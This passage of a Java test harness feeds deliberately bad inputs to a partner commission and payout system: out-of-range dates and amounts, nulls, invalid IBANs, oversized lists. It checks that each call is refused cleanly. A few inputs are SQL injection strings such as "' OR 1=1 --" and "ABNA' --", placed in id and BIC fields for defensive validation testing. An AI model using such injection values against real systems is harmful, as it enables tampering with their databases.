        "recordOrder",
        "order in USD (the programme is in EUR)",
        () -> order1.apply(OrderLine.of(1, "prod", Money.of("1.00", "USD"))).run());
    for (int number : new int[] {0, -1, 501, Integer.MIN_VALUE, Integer.MAX_VALUE}) {
      add(
          cases,
          "recordOrder",
          "line number " + number,
          () -> order1.apply(OrderLine.of(number, "prod", eur("1.00"))).run());
    }
    List<OrderLine> many = new ArrayList<>();
    for (int i = 1; i <= 501; i++) {
      many.add(OrderLine.of(Math.min(i, 500), "prod", eur("1.00")));
    }
    add(
        cases,
        "recordOrder",
        "501 lines",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-new"), new Order(OrderId.of("o-new"), ca, now, many))));
    add(
        cases,
        "recordOrder",
        "no lines",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-new"),
                        new Order(OrderId.of("o-new"), ca, now, List.of()))));
    add(
        cases,
        "recordOrder",
        "lines null",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-new"), new Order(OrderId.of("o-new"), ca, now, null))));
    add(
        cases,
        "recordOrder",
        "repeated line number",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-new"),
                        new Order(
                            OrderId.of("o-new"),
                            ca,
                            now,
                            List.of(
                                OrderLine.of(1, "prod", eur("1.00")),
                                OrderLine.of(1, "prod", eur("2.00")))))));
    add(
        cases,
        "recordOrder",
        "mixed currencies",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-new"),
                        new Order(
                            OrderId.of("o-new"),
                            ca,
                            now,
                            List.of(
                                OrderLine.of(1, "prod", eur("1.00")),
                                OrderLine.of(2, "prod", Money.of("2.00", "USD")))))));
    for (Instant at : BAD_INSTANTS) {
      add(
          cases,
          "recordOrder",
          "placed at " + at,
          () ->
              p.commissions()
                  .recordOrder(
                      new RecordOrderCommand(
                          EventId.of("order-o-new"),
                          new Order(
                              OrderId.of("o-new"),
                              ca,
                              at,
                              List.of(OrderLine.of(1, "prod", eur("1.00")))))));
    }
    for (Instant at : FUTURE_INSTANTS) {
      add(
          cases,
          "recordOrder",
          "placed in the future at " + at,
          () ->
              p.commissions()
                  .recordOrder(
                      new RecordOrderCommand(
                          EventId.of("order-o-new"),
                          new Order(
                              OrderId.of("o-new"),
                              ca,
                              at,
                              List.of(OrderLine.of(1, "prod", eur("1.00")))))));
    }
    List<OrderLine> maximal = new ArrayList<>();
    for (int i = 1; i <= 5; i++) {
      maximal.add(OrderLine.of(i, "prod", Money.of(Money.MAX_ABS_AMOUNT, EUR)));
    }
    add(
        cases,
        "recordOrder",
        "5 lines of the largest amount",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-new"),
                        new Order(OrderId.of("o-new"), ca, now, maximal))));
    add(
        cases,
        "recordOrder",
        "the largest amount and a cent",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-new"),
                        new Order(
                            OrderId.of("o-new"),
                            ca,
                            now,
                            List.of(
                                OrderLine.of(1, "prod", Money.of(Money.MAX_ABS_AMOUNT, EUR)),
                                OrderLine.of(2, "prod", eur("0.01")))))));
    add(
        cases,
        "recordOrder",
        "known event id, different order",
        () ->
            p.commissions()
                .recordOrder(
                    new RecordOrderCommand(
                        EventId.of("order-o-h1"),
                        new Order(
                            OrderId.of("o-h1"),
                            ca,
                            now,
                            List.of(OrderLine.of(1, "prod", eur("999.00")))))));
    add(
        cases,
        "recordOrder",
        "command null parts",
        () -> p.commissions().recordOrder(new RecordOrderCommand(null, null)));

    // ---- record a payment
    add(
        cases,
        "recordPayment",
        "unknown order",
        () ->
            p.commissions()
                .recordPayment(
                    new RecordPaymentCommand(EventId.of("pay-nope"), OrderId.of("o-nope"), now)));
    add(
        cases,
        "recordPayment",
        "order id with LIKE wildcard",
        () ->
            p.commissions()
                .recordPayment(
                    new RecordPaymentCommand(EventId.of("pay-nope"), OrderId.of("o-h_"), now)));
    for (String s : NASTY.subList(0, 12)) {
      add(
          cases,
          "recordPayment",
          "order id " + show(s),
          () ->
              p.commissions()
                  .recordPayment(
                      new RecordPaymentCommand(EventId.of("pay-x"), OrderId.of(s), now)));
    }
    for (Instant at : BAD_INSTANTS) {
      add(
          cases,
          "recordPayment",
          "paid at " + at,
          () ->
              p.commissions()
                  .recordPayment(
                      new RecordPaymentCommand(EventId.of("pay-o-h3"), OrderId.of("o-h3"), at)));
    }
    for (Instant at : FUTURE_INSTANTS) {
      add(
          cases,
          "recordPayment",
          "paid in the future at " + at,
          () ->
              p.commissions()
                  .recordPayment(
                      new RecordPaymentCommand(EventId.of("pay-o-h3"), OrderId.of("o-h3"), at)));
    }
    add(
        cases,
        "recordPayment",
        "paid a second before its order",
        () ->
            p.commissions()
                .recordPayment(
                    new RecordPaymentCommand(
                        EventId.of("pay-o-h3"), OrderId.of("o-h3"), now.minusSeconds(1))));
    add(
        cases,
        "recordPayment",
        "paid a year before its order",
        () ->
            p.commissions()
                .recordPayment(
                    new RecordPaymentCommand(
                        EventId.of("pay-o-h3"),
                        OrderId.of("o-h3"),
                        Instant.parse("2025-12-01T08:00:00Z"))));
    add(
        cases,
        "recordPayment",
        "nulls",
        () -> p.commissions().recordPayment(new RecordPaymentCommand(null, null, null)));
    add(
        cases,
        "recordPayment",
        "known event id, other order",
        () ->
            p.commissions()
                .recordPayment(
                    new RecordPaymentCommand(EventId.of("pay-o-h1"), OrderId.of("o-h3"), now)));

    // ---- record a refund
    OrderId oh1 = OrderId.of("o-h1");
    add(
        cases,
        "recordRefund",
        "negative amount",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(EventId.of("r-new"), oh1, now, eur("-5.00"))));
    add(
        cases,
        "recordRefund",
        "zero amount",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(EventId.of("r-new"), oh1, now, eur("0.00"))));
    add(
        cases,
        "recordRefund",
        "amount null",
        () ->
            p.commissions()
                .recordRefund(RecordRefundCommand.wholeOrder(EventId.of("r-new"), oh1, now, null)));
    add(
        cases,
        "recordRefund",
        "USD on a EUR order",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(
                        EventId.of("r-new"), oh1, now, Money.of("5.00", "USD"))));
    add(
        cases,
        "recordRefund",
        "more than the order",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(
                        EventId.of("r-new"), oh1, now, eur("100000.00"))));
    add(
        cases,
        "recordRefund",
        "per line, no lines",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.perLine(EventId.of("r-new"), oh1, now, Map.of())));
    add(
        cases,
        "recordRefund",
        "whole order, no amount",
        () ->
            p.commissions()
                .recordRefund(RecordRefundCommand.wholeOrder(EventId.of("r-new"), oh1, now, null)));
    add(
        cases,
        "recordRefund",
        "unknown line 99",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.perLine(
                        EventId.of("r-new"), oh1, now, Map.of(99, eur("1.00")))));
    add(
        cases,
        "recordRefund",
        "line -1",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.perLine(
                        EventId.of("r-new"), oh1, now, Map.of(-1, eur("1.00")))));
    add(
        cases,
        "recordRefund",
        "line refund more than the line",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.perLine(
                        EventId.of("r-new"), oh1, now, Map.of(2, eur("40.01")))));
    Map<Integer, Money> nullLine = new HashMap<>();
    nullLine.put(1, null);
    add(
        cases,
        "recordRefund",
        "per-line map with null",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.perLine(EventId.of("r-new"), oh1, now, nullLine)));
    add(
        cases,
        "recordRefund",
        "per-line map null",
        () ->
            p.commissions()
                .recordRefund(RecordRefundCommand.perLine(EventId.of("r-new"), oh1, now, null)));
    add(
        cases,
        "recordRefund",
        "unknown order",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(
                        EventId.of("r-new"), OrderId.of("o-nope"), now, eur("1.00"))));
    add(
        cases,
        "recordRefund",
        "unpaid order o-h3 over its value",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(
                        EventId.of("r-new"), OrderId.of("o-h3"), now, eur("20.01"))));
    for (Instant at : BAD_INSTANTS) {
      add(
          cases,
          "recordRefund",
          "refunded at " + at,
          () ->
              p.commissions()
                  .recordRefund(
                      RecordRefundCommand.wholeOrder(EventId.of("r-new"), oh1, at, eur("1.00"))));
    }
    for (Instant at : FUTURE_INSTANTS) {
      add(
          cases,
          "recordRefund",
          "refunded in the future at " + at,
          () ->
              p.commissions()
                  .recordRefund(
                      RecordRefundCommand.wholeOrder(EventId.of("r-new"), oh1, at, eur("1.00"))));
    }
    add(
        cases,
        "recordRefund",
        "refunded before its order",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(
                        EventId.of("r-new"),
                        OrderId.of("o-h3"),
                        now.minusSeconds(1),
                        eur("1.00"))));
    add(
        cases,
        "recordRefund",
        "known event id, other amount",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder(
                        EventId.of("refund-o-h1"), oh1, now, eur("3.00"))));
    add(
        cases,
        "recordRefund",
        "nulls",
        () ->
            p.commissions()
                .recordRefund(
                    RecordRefundCommand.wholeOrder((EventId) null, null, null, eur("1.00"))));
    add(cases, "recordRefund", "command null", () -> p.commissions().recordRefund(null));

    // ---- close a period
    add(cases, "closePeriod", "month null", () -> p.payouts().close(null, Acts.TEST));
    add(
        cases,
        "closePeriod",
        "the current month",
        () -> p.payouts().close(YearMonth.of(2026, 12), Acts.TEST));
    add(
        cases,
        "closePeriod",
        "year 3000",
        () -> p.payouts().close(YearMonth.of(3000, 1), Acts.TEST));
    add(
        cases,
        "closePeriod",
        "year 999999999",
        () -> p.payouts().close(YearMonth.of(999_999_999, 12), Acts.TEST));
    add(
        cases,
        "closePeriod",
        "a month after an open one",
        () -> p.payouts().close(YearMonth.of(2027, 2), Acts.TEST));

    for (YearMonth month :
        List.of(YearMonth.of(1969, 12), YearMonth.of(-999_999_999, 1), YearMonth.of(0, 1))) {
      add(cases, "closePeriod", "month " + month, () -> p.payouts().close(month, Acts.TEST));
      add(
          cases,
          "statement",
          "month " + month,
          () -> p.payouts().statement(StatementQuery.of(a, month)));
      add(
          cases,
          "export",
          "month " + month,
          () ->
              p.payouts()
                  .export(
                      new ExportPayoutsCommand(
                          month,
                          PainVersion.PAIN_001_001_03,
                          debtor,
                          LocalDate.parse("2026-12-02"),
                          Acts.TEST)));
    }
    add(
        cases,
        "export",
        "execution date year 999999999",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        HostileWorld.CLOSED,
                        PainVersion.PAIN_001_001_03,
                        debtor,
                        LocalDate.MAX,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "execution date before the epoch",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        HostileWorld.CLOSED,
                        PainVersion.PAIN_001_001_03,
                        debtor,
                        LocalDate.MIN,
                        Acts.TEST)));

    // ---- export
    YearMonth closed = HostileWorld.CLOSED;
    LocalDate day = LocalDate.parse("2026-12-02");
    add(
        cases,
        "export",
        "month null",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        null, PainVersion.PAIN_001_001_03, debtor, day, Acts.TEST)));
    add(
        cases,
        "export",
        "version null",
        () -> p.payouts().export(new ExportPayoutsCommand(closed, null, debtor, day, Acts.TEST)));
    add(
        cases,
        "export",
        "debtor null",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed, PainVersion.PAIN_001_001_03, null, day, Acts.TEST)));
    add(
        cases,
        "export",
        "execution date null",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed, PainVersion.PAIN_001_001_03, debtor, null, Acts.TEST)));
    add(
        cases,
        "export",
        "debtor iban invalid",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed,
                        PainVersion.PAIN_001_001_03,
                        SepaDebtor.of("Hosting B.V.", "NL92ABNA0417164300"),
                        day,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "debtor iban outside SEPA",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed,
                        PainVersion.PAIN_001_001_03,
                        SepaDebtor.of("Hosting B.V.", "TR330006100519786457841326"),
                        day,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "debtor iban with check digits 99",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed,
                        PainVersion.PAIN_001_001_03,
                        SepaDebtor.of("Hosting B.V.", "NL99ABNA0417164350"),
                        day,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "debtor name blank",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed,
                        PainVersion.PAIN_001_001_03,
                        SepaDebtor.of(" ", "NL91ABNA0417164300"),
                        day,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "debtor bic with SQL",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed,
                        PainVersion.PAIN_001_001_03,
                        new SepaDebtor(
                            "Hosting B.V.",
                            Iban.parse("NL91ABNA0417164300"),
                            Optional.of("ABNA' --")),
                        day,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "debtor bic optional null",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        closed,
                        PainVersion.PAIN_001_001_03,
                        new SepaDebtor("Hosting B.V.", Iban.parse("NL91ABNA0417164300"), null),
                        day,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "a month not closed",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        YearMonth.of(2026, 12),
                        PainVersion.PAIN_001_001_03,
                        debtor,
                        day,
                        Acts.TEST)));
    add(
        cases,
        "export",
        "year 3000",
        () ->
            p.payouts()
                .export(
                    new ExportPayoutsCommand(
                        YearMonth.of(3000, 1),
                        PainVersion.PAIN_001_001_03,
                        debtor,
                        day,
                        Acts.TEST)));

    // ---- mark paid and failed
    for (String s :
        List.of(
            "",
            "PO",
            "PO" + "0".repeat(23),
            "po" + "0".repeat(24),
            "PO" + "0".repeat(23) + "'",
            "PO" + "%".repeat(24),
            "PO" + "_".repeat(24),
            "' OR 1=1 --",
            "PO" + "0".repeat(25))) {
      add(
          cases,
          "markPaid",
          "payout id " + show(s),
          () -> p.payouts().markPaid(PayoutId.of(s), now, Acts.TEST));
    }
    add(cases, "markPaid", "payout id null", () -> p.payouts().markPaid(null, now, Acts.TEST));
    add(
        cases,
        "markPaid",
        "unknown payout",
        () -> p.payouts().markPaid(unknownPayout, now, Acts.TEST));
    for (Instant at : BAD_INSTANTS) {
      add(cases, "markPaid", "paid at " + at, () -> p.payouts().markPaid(paid, at, Acts.TEST));
    }
    add(cases, "markPaid", "paid at null", () -> p.payouts().markPaid(paid, null, Acts.TEST));
    for (String reason : BAD_FREE_TEXT.subList(0, 14)) {
      add(
          cases,
          "markFailed",
          "reason " + show(reason),
          () -> p.payouts().markFailed(paid, Acts.because(reason)));
    }
    add(
        cases,
        "markFailed",
        "reason of 201 characters",
        () -> p.payouts().markFailed(paid, Acts.because("r".repeat(201))));
    add(cases, "markFailed", "reason null", () -> p.payouts().markFailed(paid, Acts.because(null)));
    add(
        cases,
        "markFailed",
        "unknown payout",
        () -> p.payouts().markFailed(unknownPayout, Acts.because("bounced")));
    add(
        cases,
        "markFailed",
        "a payout already paid",
        () -> p.payouts().markFailed(paid, Acts.because("bounced")));
    add(
        cases,
        "markFailed",
        "payout null",
        () -> p.payouts().markFailed(null, Acts.because("bounced")));

    // ---- statement, overview, processed events
    add(
        cases,
        "statement",
        "partner null",
        () -> p.payouts().statement(StatementQuery.of(null, closed)));
    add(cases, "statement", "month null", () -> p.payouts().statement(StatementQuery.of(a, null)));
    add(
        cases,
        "statement",
        "unknown partner",
        () -> p.payouts().statement(StatementQuery.of(unknownPartner, closed)));
    add(
        cases,
        "statement",
        "a month not closed",
        () -> p.payouts().statement(StatementQuery.of(a, YearMonth.of(2026, 12))));
    add(
        cases,
        "statement",
        "year 3000",
        () -> p.payouts().statement(StatementQuery.of(a, YearMonth.of(3000, 1))));
    add(cases, "overview", "customer null", () -> p.partners().overviewOfCustomer(null));
    add(cases, "overview", "partner null", () -> p.partners().overview(null));
    addEmpty(cases, "overview", "unknown partner", () -> p.partners().overview(unknownPartner));
    addEmpty(
        cases,
        "overview",
        "partner id of LIKE wildcards",
        () -> p.partners().overview(PartnerId.of("p____________________________")));
    addEmpty(
        cases,
        "overview",
        "customer that is not a partner",
        () -> p.partners().overviewOfCustomer(ca));
    for (String s : NASTY.subList(0, 10)) {
      add(
          cases,
          "overview",
          "customer " + show(s),
          () -> p.partners().overviewOfCustomer(CustomerAccountId.of(s)));
    }
    add(cases, "processedEvents", "no ids", () -> p.commissions().processed(Set.of()));
    List<String> tooManyIds = new ArrayList<>();
    for (int i = 0; i <= 1000; i++) {
      tooManyIds.add("e-" + i);
    }
    add(cases, "processedEvents", "1001 ids", () -> p.commissions().processed(tooManyIds));
    add(
        cases,
        "processedEvents",
        "list with null",
        () -> p.commissions().processed(java.util.Arrays.asList("e-1", null)));
    add(cases, "processedEvents", "list null", () -> p.commissions().processed(null));
    for (String s : NASTY.subList(0, 12)) {
      add(cases, "processedEvents", "id " + show(s), () -> p.commissions().processed(List.of(s)));
    }
    addEmpty(
        cases,
        "processedEvents",
        "unknown ids with LIKE wildcards",
        () -> p.commissions().processed(List.of("pay-o-h_", "order-o-h_", "e_")));

    // ---- corrections: adjustments and write-offs
    Act act = Act.by("alice@host.example", "bonus");
    for (String s : NASTY.subList(0, 12)) {
      add(
          cases,
          "adjust",
          "adjustment id " + show(s),
          () -> p.corrections().adjust(AdjustCommand.of(s, a, eur("1.00"), act)));
      add(
          cases,
          "adjust",
          "actor " + show(s),
          () -> p.corrections().adjust(AdjustCommand.of("adj-h", a, eur("1.00"), Act.by(s, "x"))));
    }
    for (String reason : BAD_FREE_TEXT) {
      add(
          cases,
          "adjust",
          "reason " + show(reason),
          () ->
              p.corrections()
                  .adjust(AdjustCommand.of("adj-h", a, eur("1.00"), Act.by("op", reason))));
    }
    add(
        cases,
        "adjust",
        "reason of 201 characters",
        () ->
            p.corrections()
                .adjust(AdjustCommand.of("adj-h", a, eur("1.00"), Act.by("op", "r".repeat(201)))));
    add(
        cases,
        "adjust",
        "actor of 101 characters",
        () ->
            p.corrections()
                .adjust(AdjustCommand.of("adj-h", a, eur("1.00"), Act.by("o".repeat(101), "x"))));
    for (String amount : BAD_EUR_AMOUNTS) {
      add(
          cases,
          "adjust",
          "amount " + show(amount),
          () -> p.corrections().adjust(AdjustCommand.of("adj-h", a, eur(amount), act)));
    }
    for (String amount : List.of("1000000000000000", "-1000000000000000", "0", "0.00")) {
      add(
          cases,
          "adjust",
          "amount " + amount,
          () -> p.corrections().adjust(AdjustCommand.of("adj-h", a, eur(amount), act)));
    }
    add(
        cases,
        "adjust",
        "amount in USD",
        () -> p.corrections().adjust(AdjustCommand.of("adj-h", a, Money.of("1.00", "USD"), act)));
    add(
        cases,
        "adjust",
        "unknown partner",
        () -> p.corrections().adjust(AdjustCommand.of("adj-h", unknownPartner, eur("1.00"), act)));
    add(
        cases,
        "adjust",
        "another partner's order line",
        () ->
            p.corrections()
                .adjust(AdjustCommand.of("adj-h", b, eur("1.00"), act).refersTo("o-h1", 1)));
    add(
        cases,
        "adjust",
        "unknown order line",
        () ->
            p.corrections()
                .adjust(AdjustCommand.of("adj-h", a, eur("1.00"), act).refersTo("o-none", 1)));
    add(
        cases,
        "adjust",
        "line number 0",
        () ->
            p.corrections()
                .adjust(AdjustCommand.of("adj-h", a, eur("1.00"), act).refersTo("o", 0)));
    add(cases, "adjust", "command null", () -> p.corrections().adjust(null));
    add(
        cases,
        "adjust",
        "partner null",
        () -> p.corrections().adjust(AdjustCommand.of("adj-h", null, eur("1.00"), act)));
    add(
        cases,
        "adjust",
        "act null",
        () -> p.corrections().adjust(AdjustCommand.of("adj-h", a, eur("1.00"), null)));
    add(
        cases,
        "writeOff",
        "a partner who is still a partner",
        () -> p.corrections().writeOff(WriteOffCommand.of("wo-h", a, act)));
    add(
        cases,
        "writeOff",
        "unknown partner",
        () -> p.corrections().writeOff(WriteOffCommand.of("wo-h", unknownPartner, act)));
    add(cases, "writeOff", "command null", () -> p.corrections().writeOff(null));

    // ---- re-attribution by support
    Instant signedUp = now.minus(java.time.Duration.ofDays(400));
    add(
        cases,
        "reattribute",
        "unknown customer",
        () -> p.referrals().reattribute(ReattributeCommand.to("re-h", "c-nobody", b, now, act)));
    add(
        cases,
        "reattribute",
        "unknown partner",
        () ->
            p.referrals()
                .reattribute(
                    ReattributeCommand.to("re-h", w.customerA.value(), unknownPartner, now, act)));
    add(
        cases,
        "reattribute",
        "from a year 3000 instant",
        () ->
            p.referrals()
                .reattribute(
                    ReattributeCommand.to(
                        "re-h",
                        w.customerA.value(),
                        b,
                        Instant.parse("3000-01-01T00:00:00Z"),
                        act)));
    add(
        cases,
        "reattribute",
        "from tomorrow",
        () ->
            p.referrals()
                .reattribute(
                    ReattributeCommand.to(
                        "re-h",
                        w.customerA.value(),
                        b,
                        now.plus(java.time.Duration.ofDays(1)),
                        act)));
    add(
        cases,
        "reattribute",
        "from before the signup",
        () ->
            p.referrals()
                .reattribute(ReattributeCommand.to("re-h", w.customerA.value(), b, signedUp, act)));
    add(
        cases,
        "reattribute",
        "partner null",
        () -> p.referrals().reattribute(ReattributeCommand.to("re-h", "c", null, now, act)));
    add(cases, "reattribute", "command null", () -> p.referrals().reattribute(null));

    // ---- the audit trail and the reports of support and finance
    add(cases, "audit", "query null", () -> p.audit().records(null));
    add(cases, "audit", "partner null", () -> p.audit().records(AuditQuery.ofPartner(null)));
    add(cases, "audit", "month null", () -> p.audit().records(AuditQuery.ofMonth(null)));
    add(
        cases,
        "audit",
        "year 3000",
        () -> p.audit().records(AuditQuery.ofMonth(YearMonth.of(3000, 1))));
    for (int size : new int[] {0, -1, 201, Integer.MAX_VALUE}) {
      add(
          cases,
          "audit",
          "page size " + size,
          () -> p.audit().records(AuditQuery.ofPartner(a).pageSize(size)));
      add(
          cases,
          "reports",
          "partners page size " + size,
          () ->
              p.reports()
                  .partners(PartnerListQuery.withStatus(PartnerStatus.ACTIVE).pageSize(size)));
    }
    for (String s : NASTY.subList(0, 8)) {
      add(cases, "audit", "actor " + show(s), () -> p.audit().records(AuditQuery.ofActor(s)));
      add(
          cases,
          "audit",
          "position " + show(s),
          () -> p.audit().records(AuditQuery.ofPartner(a).after(PagePosition.of(s))));
      add(
          cases,
          "reports",
          "payouts position " + show(s),
          () -> p.reports().payoutsOfMonth(MonthPayoutsQuery.of(closed).after(PagePosition.of(s))));
    }
    add(cases, "reports", "partners query null", () -> p.reports().partners(null));
    add(
        cases,
        "reports",
        "status null",
        () -> p.reports().partners(PartnerListQuery.withStatus(null)));
    add(cases, "reports", "find null", () -> p.reports().find(null));
    add(cases, "reports", "find empty", () -> p.reports().find(""));
    add(cases, "reports", "funnel null", () -> p.reports().funnel(null));
    add(cases, "reports", "funnel year 3000", () -> p.reports().funnel(YearMonth.of(3000, 1)));
    add(
        cases,
        "reports",
        "top from after to",
        () -> p.reports().topPartners(now, now.minusSeconds(1), 10));
    add(cases, "reports", "top from equals to", () -> p.reports().topPartners(now, now, 10));
    add(
        cases,
        "reports",
        "top limit 0",
        () -> p.reports().topPartners(now.minusSeconds(60), now, 0));
    add(
        cases,
        "reports",
        "top limit 101",
        () -> p.reports().topPartners(now.minusSeconds(60), now, 101));
    add(cases, "reports", "top null", () -> p.reports().topPartners(null, now, 10));
    add(cases, "reports", "payouts query null", () -> p.reports().payoutsOfMonth(null));
    add(
        cases,
        "reports",
        "payouts of a month not closed",
        () -> p.reports().payoutsOfMonth(MonthPayoutsQuery.of(YearMonth.of(2026, 12))));
    for (String s : NASTY.subList(0, 6)) {
      add(
          cases,
          "reattribute",
          "customer " + show(s),
          () -> p.referrals().reattribute(ReattributeCommand.to("re-h", s, b, now, act)));
    }
    for (String s : NASTY.subList(0, 6)) {
      add(
          cases,
          "writeOff",
          "id " + show(s),
          () -> p.corrections().writeOff(WriteOffCommand.of(s, a, act)));
    }
    return cases;
  }

  private static Money eur(String amount) {
    return Money.of(amount, "EUR");
  }

  private static void add(List<Case> cases, String useCase, String name, Call call) {
    cases.add(new Case(useCase, name, Expect.REFUSED, call));
  }

  private static void addEmpty(List<Case> cases, String useCase, String name, Call call) {
    cases.add(new Case(useCase, name, Expect.EMPTY, call));
  }

  /**
   * A printable rendering of a hostile string for a case name.
   *
   * @param s the string, may be null
   * @return printable ASCII
   */
  public static String show(String s) {
    if (s == null) {
      return "null";
    }
    StringBuilder b = new StringBuilder("\"");
    int shown = 0;
    for (int i = 0; i < s.length() && shown < 24; i++, shown++) {
      char c = s.charAt(i);
      b.append(c >= 0x20 && c < 0x7f ? String.valueOf(c) : String.format("\\u%04X", (int) c));
    }
    if (s.length() > 24) {
      b.append("...(").append(s.length()).append(')');
    }
    return b.append('"').toString();
  }

  /**
   * Runs one case and says what went wrong, if anything.
   *
   * @param c the case
   * @return empty if the case ended as expected, else a description
   */
  public static Optional<String> problem(Case c) {
    Object result;
    try {
      result = c.call().run();
    } catch (StorageException | RetryableException e) {
      return Optional.of("reached the database and failed there: " + describe(e));
    } catch (PartnerProgramException e) {
      return Optional.empty();
    } catch (RuntimeException | Error e) {
      return Optional.of("threw an untyped " + describe(e));
    }
    if (c.expect() == Expect.EMPTY && isEmpty(result)) {
      return Optional.empty();
    }
    return Optional.of("was accepted and returned " + result);
  }

  private static boolean isEmpty(Object result) {
    return (result instanceof Optional<?> o && o.isEmpty())
        || (result instanceof Collection<?> col && col.isEmpty());
  }

  private static String describe(Throwable e) {
    return e.getClass().getName() + ": " + e.getMessage();
  }
}
